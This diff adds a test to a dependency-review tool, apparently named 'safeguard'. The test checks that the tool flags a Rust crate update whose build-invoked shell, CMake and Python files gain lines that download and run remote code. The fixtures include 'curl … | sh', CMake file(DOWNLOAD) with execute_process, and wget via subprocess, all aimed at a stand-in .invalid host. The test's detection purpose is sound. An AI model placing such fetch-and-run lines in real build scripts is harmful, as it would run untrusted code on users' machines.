@@ -143,6 +143,47 @@ describe('an update that changes what the same code runs', () => {
     });
   }
 
+  it('shows what differs in files of other languages, with what they do', async (t) => {
+    const tools = (version: string, files: Readonly<Record<string, string>>) =>
+      makeCrate({
+        name: 'native',
+        version,
+        buildScript:
+          'fn main() {\n    std::process::Command::new("sh").arg("native/configure").status().unwrap();\n    std::process::Command::new("python3").arg("native/gen.py").status().unwrap();\n    cmake::build("native");\n}\n',
+        buildDependencies: { cmake: '0.1' },
+        files,
+      });
+    const before = {
+      'native/configure': 'CC=cc\n',
+      'native/CMakeLists.txt': 'project(native C)\n',
+      'native/gen.py': 'import sys\n',
+    };
+    const after = {
+      'native/configure': 'CC=cc\ncurl -s https://native.invalid/setup | sh\n',
+      'native/CMakeLists.txt':
+        'project(native C)\nfile(DOWNLOAD https://native.invalid/a a)\nexecute_process(COMMAND ./a)\n',
+      'native/gen.py':
+        'import sys\nimport subprocess\nsubprocess.run(["wget", "https://native.invalid/b"])\n',
+    };
+    const s = await stage(t, {});
+    for (const crate of [tools('1.0.0', before), tools('1.0.1', after)]) s.upstream.publish(crate, old);
+    const repo = repository(t);
+    repo.commit({ 'Cargo.toml': manifest('native = "1"'), 'src/main.rs': 'fn main() {}\n' });
+    const from = ['--server', s.mirror.url, '--upstream', s.upstream.indexUrl];
+    const ran = await safeguard(['review', 'native@1.0.1', '--against', '1.0.0', ...from], { cwd: repo.dir });
+    assert.equal(ran.code, 2, ran.stderr);
+    for (const shown of [
+      /downloader\s+curl\s+native\/configure:2/,
+      /data-as-code\s+curl \| sh\s+native\/configure:2/,
+      /network\s+CMake file\(DOWNLOAD\)\s+native\/CMakeLists\.txt:2/,
+      /downloader\s+wget\s+native\/gen\.py:3/,
+      /\+curl -s https:\/\/native\.invalid\/setup \| sh/,
+      /\+file\(DOWNLOAD https:\/\/native\.invalid\/a a\)/,
+      /\+subprocess\.run\(\["wget"/,
+    ])
+      assert.match(ran.stdout, shown);
+  });
+
   it('stays a warning where what was grave before is as grave, and no list is kept', async (t) => {
     const update = {
       ...(updates[0] as Update),
